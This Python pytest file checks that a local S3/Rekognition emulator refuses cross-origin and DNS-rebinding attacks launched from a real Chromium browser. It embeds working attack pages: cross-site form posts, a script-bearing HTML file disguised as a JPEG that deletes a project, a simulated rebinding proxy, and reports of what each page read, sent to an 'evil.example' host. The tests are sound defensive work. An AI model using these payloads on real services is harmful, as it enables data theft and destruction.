"""Attacks of a foreign web page on the server, in a real browser (Chromium), also by DNS rebinding.

Each test would fail if the page read a byte of the service or changed its state. A page of this machine,
which may show stored images, is the control: it proves that the browser reaches the service.
"""

from __future__ import annotations

import json
import os
import queue
import re
import socket
import subprocess
import threading
from contextlib import contextmanager, suppress
from typing import TYPE_CHECKING, Any

import boto3
import pytest

from chromium import CHROMIUM, FLAGS
from rekolabels.local import LocalService

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping
    from pathlib import Path

    from rekolabels.local._http._server import Server

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="needs chromium")

LOOPBACK = "127.0.0.1"
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108000000003a7e9b55"
    "0000000a49444154789c636000000002000148afa4710000000049454e44ae426082"
)
# A form sends it as text/plain, as its field's name, "=" and its value.
DELETE = '<Delete a="b"><Object><Key>photo.png</Key></Object></Delete>'
# What an attacker hides in a data set's image: a page that acts as the service's own.
POLYGLOT = """<!doctype html><script>
fetch("/", {method: "POST", headers: {"X-Amz-Target": "RekognitionService.DeleteProject",
  "Content-Type": "application/x-amz-json-1.1"}, body: JSON.stringify({ProjectArn: "ARN"})});
fetch("/bucket/photo.png", {method: "DELETE"});
</script>"""

ATTACK = """<!doctype html><title>attack</title><body><script>
const base = "BASE", seen = {}, orders = ORDERS;
const load = (name, tag, url) => new Promise((done) => {
  const element = document.createElement(tag);
  element.onload = () => { seen[name] = element.naturalWidth ? "loaded" : "event"; done(); };
  element.onerror = () => { seen[name] = "refused"; done(); };
  element.src = url;
  document.body.append(element);
});
const ask = async (name, url, options) => {
  try {
    const response = await fetch(url, options);
    const size = (await response.text()).length;
    seen[name] = response.type === "opaque" ? "opaque" : response.status + " " + size;
  } catch (error) { seen[name] = "refused"; }
};
const submit = (target, method) => new Promise((done) => {
  const frame = document.createElement("iframe"), form = document.createElement("form");
  frame.name = target; document.body.append(frame); frame.onload = done;
  form.action = base + "/bucket?delete"; form.method = method;
  form.enctype = "text/plain"; form.target = target;
  const field = document.createElement("input");
  field.name = orders.split("=")[0]; field.value = orders.slice(field.name.length + 1);
  form.append(field); document.body.append(form); form.submit();
});
const html = "?response-content-type=text%2Fhtml&response-content-disposition=inline";
const simple = {method: "POST", mode: "no-cors", body: orders};
Promise.all([
  load("image", "img", base + "/bucket/photo.png"),
  load("script", "script", base + "/bucket/script.js"),
  load("frame", "iframe", base + "/bucket/trap.jpg" + html),
  load("stored", "iframe", base + "/bucket/trap.html"),
  submit("forms", "POST"),
  ask("simple", base + "/bucket?delete", simple),
  ask("read", base + "/bucket/photo.png", {}),
  ask("opaque", base + "/bucket/photo.png", {mode: "no-cors"}),
  ask("list", base + "/", {method: "POST", body: "{}",
    headers: {"X-Amz-Target": "RekognitionService.DescribeProjects"}}),
  ask("delete", base + "/", {method: "POST", body: JSON.stringify({ProjectArn: "ARN"}),
    headers: {"X-Amz-Target": "RekognitionService.DeleteProject"}}),
  ask("remove", base + "/bucket/photo.png", {method: "DELETE"}),
]).then(() => new Promise((done) => setTimeout(done, 500))).then(() => {
  seen.global = String(window.stolen);
  fetch("/report", {method: "POST", body: JSON.stringify(seen)});
});
</script></body>"""


@pytest.fixture
def server() -> Iterator[Server]:
    """Start a server with a project, and with objects that are traps."""
    with LocalService(engine="tiny") as service, service.serve() as running:
        s3, rekognition = clients(running)
        s3.create_bucket(Bucket="bucket")
        arn = rekognition.create_project(ProjectName="birds")["ProjectArn"]
        trap = POLYGLOT.replace("ARN", arn).encode()
        for key, body, kind in (
            ("photo.png", PNG, "image/png"),
            ("trap.jpg", trap, "image/jpeg"),
            ("trap.html", trap, "text/html"),
            ("script.js", b"window.stolen = 1;", "text/javascript"),
        ):
            s3.put_object(Bucket="bucket", Key=key, Body=body, ContentType=kind)
        yield running


def clients(server: Server) -> tuple[Any, Any]:
    """Return clients of the server's S3 and Rekognition."""
    session = boto3.Session("0" * 12, "x", region_name="us-east-1")
    return session.client("s3", endpoint_url=server.url), session.client(
        "rekognition", endpoint_url=server.url
    )


def arn(server: Server) -> str:
    """Return the ARN of the one project."""
    (project,) = clients(server)[1].describe_projects()["ProjectDescriptions"]
    found: str = project["ProjectArn"]
    return found


def assert_unchanged(server: Server) -> None:
    """Check that the project and all objects are still there."""
    s3, rekognition = clients(server)
    assert [item["Status"] for item in rekognition.describe_projects()["ProjectDescriptions"]] == ["CREATED"]
    keys = [item["Key"] for item in s3.list_objects_v2(Bucket="bucket").get("Contents", [])]
    assert keys == ["photo.png", "script.js", "trap.html", "trap.jpg"]


class Attacker:
    """A web server of the attacker on the loopback interface.

    It serves one page for ``/attack``, takes the page's report at ``/report``, and passes every other request
    on to the service, as if its name had been bound to the service's address after the page was loaded.
    """

    def __init__(self, page: str, service: int) -> None:
        self.page = page.encode()
        self.service = service
        self.reports: queue.Queue[Mapping[str, str]] = queue.Queue()
        self.passed: list[bytes] = []
        self._listener = socket.create_server((LOOPBACK, 0))
        self.port: int = self._listener.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def close(self) -> None:
        """Stop listening."""
        with suppress(OSError):
            self._listener.shutdown(socket.SHUT_RDWR)
        self._listener.close()

    def _accept(self) -> None:
        with suppress(OSError):
            while True:
                connection = self._listener.accept()[0]
                threading.Thread(target=self._answer, args=(connection,), daemon=True).start()

    def _answer(self, connection: socket.socket) -> None:
        with connection, suppress(OSError):
            connection.settimeout(30)
            request = b""
            while b"\r\n\r\n" not in request:
                data = connection.recv(65536)
                if not data:
                    return
                request += data
            head, _, body = request.partition(b"\r\n\r\n")
            size = re.search(rb"(?i)\r\ncontent-length: (\d+)", head)
            while len(body) < int(size[1] if size else 0):
                body += connection.recv(65536)
            path = head.split(b" ", 2)[1]
            if path == b"/attack":
                connection.sendall(
                    b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n"
                    b"Content-Length: %d\r\n\r\n%s" % (len(self.page), self.page)
                )
            elif path == b"/report":
                connection.sendall(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")
                self.reports.put(json.loads(body))
            else:
                self._pass_on(connection, head, body)

    def _pass_on(self, connection: socket.socket, head: bytes, body: bytes) -> None:
        head = re.sub(rb"(?i)\r\nconnection: [^\r]*", b"", head) + b"\r\nConnection: close"
        with socket.create_connection((LOOPBACK, self.service), timeout=30) as service:
            service.sendall(head + b"\r\n\r\n" + body)
            answer = b""
            while data := service.recv(65536):
                answer += data
        self.passed.append(answer)
        connection.sendall(answer)


SHOW = """<!doctype html><img src="BASE/bucket/photo.png"
  onload="report('loaded')" onerror="report('refused')"><script>
const report = (image) => fetch("/report", {method: "POST", body: JSON.stringify({image})});
</script>"""


LINK = """<!doctype html><script>
location = "BASE/bucket/trap.jpg?response-content-type=text%2Fhtml&response-content-disposition=inline";
setTimeout(() => fetch("/report", {method: "POST", body: '{"page": "still there"}'}), 2000);
</script>"""


@contextmanager
def attacker(base: str, server: Server, page: str = ATTACK) -> Iterator[Attacker]:
    """Start a web server with a page, by default the attacking one."""
    page = page.replace("ORDERS", json.dumps(DELETE)).replace("BASE", base).replace("ARN", arn(server))
    running = Attacker(page, server.port)
    try:
        yield running
    finally:
        running.close()


def visit(url: str, folder: Path, attacker: Attacker, rule: str) -> Mapping[str, str]:
    """Open a page in a new browser and return what it reports; the browser ends with the test."""
    assert CHROMIUM is not None
    command = [CHROMIUM, *FLAGS, f"--user-data-dir={folder / 'profile'}", f"--host-resolver-rules={rule}"]
    with subprocess.Popen(  # noqa: S603 - the installed browser and a page of this test
        [*command, "--remote-debugging-port=0", url],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        env={**os.environ, "HOME": str(folder)},
    ) as browser:
        try:
            return attacker.reports.get(timeout=60)
        finally:
            browser.terminate()


def test_a_foreign_page_changes_and_reads_nothing(server: Server, tmp_path: Path) -> None:
    """Images, scripts, frames, forms and simple requests of a page of another site are refused."""
    with attacker(server.url, server) as other:
        url = f"http://foreign.example:{other.port}/attack"
        seen = dict(visit(url, tmp_path, other, f"MAP foreign.example {LOOPBACK}"))

    frames = {seen.pop("frame"), seen.pop("stored")}
    assert frames <= {"event", "refused"}  # a blocked frame has a load event, too
    assert seen.pop("global") == "undefined"
    assert set(seen.values()) == {"refused"}
    assert_unchanged(server)


def test_a_rebound_name_changes_and_reads_nothing(server: Server, tmp_path: Path) -> None:
    """A page whose name resolves to the service's address afterwards gets refusals and nothing else."""
    with attacker("", server) as other:
        rule = f"MAP evil.example:80 {LOOPBACK}:{other.port}"
        seen = visit("http://evil.example/attack", tmp_path, other, rule)

    assert other.passed
    assert {answer[:12] for answer in other.passed} == {b"HTTP/1.1 403"}
    assert not any(b"<?xml" in answer or b"birds" in answer for answer in other.passed)
    assert seen["global"] == "undefined"
    assert_unchanged(server)


def test_an_opened_link_is_a_download(server: Server, tmp_path: Path) -> None:
    """An image with a page in it stays a download for a user who opens a link, so its script never runs.

    The link is on a page of this machine, whose requests are answered. If it opened, that page would be gone.
    """
    with attacker(server.url.replace(LOOPBACK, "localhost"), server, LINK) as other:
        seen = visit(f"http://localhost:{other.port}/attack", tmp_path, other, "MAP none.example ~NOTFOUND")

    assert seen == {"page": "still there"}
    assert_unchanged(server)


def test_a_page_of_this_machine_may_show_images(server: Server, tmp_path: Path) -> None:
    """A page on another port of localhost shows stored images, as on AWS; a foreign page does not."""
    with attacker(server.url.replace(LOOPBACK, "localhost"), server, SHOW) as other:
        own = visit(
            f"http://localhost:{other.port}/attack", tmp_path / "own", other, "MAP none.example ~NOTFOUND"
        )
        url = f"http://foreign.example:{other.port}/attack"
        foreign = visit(url, tmp_path / "foreign", other, f"MAP foreign.example {LOOPBACK}")

    assert (own["image"], foreign["image"]) == ("loaded", "refused")


CALL = """<!doctype html><script>
const seen = {};
const ask = async (name, url, options) => {
  try {
    const response = await fetch("BASE" + url, options);
    seen[name] = response.status + " " + (await response.text()).includes("birds");
    seen.etag = seen.etag || response.headers.get("ETag");
  } catch (error) { seen[name] = "refused"; }
};
(async () => {
  await ask("list", "/", {method: "POST", body: "{}", headers: {"Content-Type": "application/x-amz-json-1.1",
    "X-Amz-Target": "RekognitionService.DescribeProjects"}});
  await ask("write", "/bucket/new.txt", {method: "PUT", body: "birds", headers: {"x-amz-meta-a": "b"}});
  await ask("read", "/bucket/new.txt", {});
  fetch("/report", {method: "POST", body: JSON.stringify(seen)});
})();
</script>"""


@pytest.mark.parametrize("page", ["localhost", LOOPBACK])
@pytest.mark.parametrize("called", ["localhost", LOOPBACK])
def test_a_page_of_this_machine_may_call(server: Server, tmp_path: Path, page: str, called: str) -> None:
    """It calls operations, stores objects and reads the answers, with their headers."""
    with attacker(server.url.replace(LOOPBACK, called), server, CALL) as other:
        seen = visit(f"http://{page}:{other.port}/attack", tmp_path, other, "MAP none.example ~NOTFOUND")

    etag = seen["etag"]
    assert seen == {"list": "200 true", "write": "200 false", "read": "200 true", "etag": etag}
    assert etag.startswith('"')


def test_a_foreign_page_may_not_call(server: Server, tmp_path: Path) -> None:
    """The same page from elsewhere gets nothing and changes nothing."""
    with attacker(server.url, server, CALL) as other:
        url = f"http://foreign.example:{other.port}/attack"
        seen = visit(url, tmp_path, other, f"MAP foreign.example {LOOPBACK}")

    assert seen == {"list": "refused", "write": "refused", "read": "refused"}
    assert_unchanged(server)
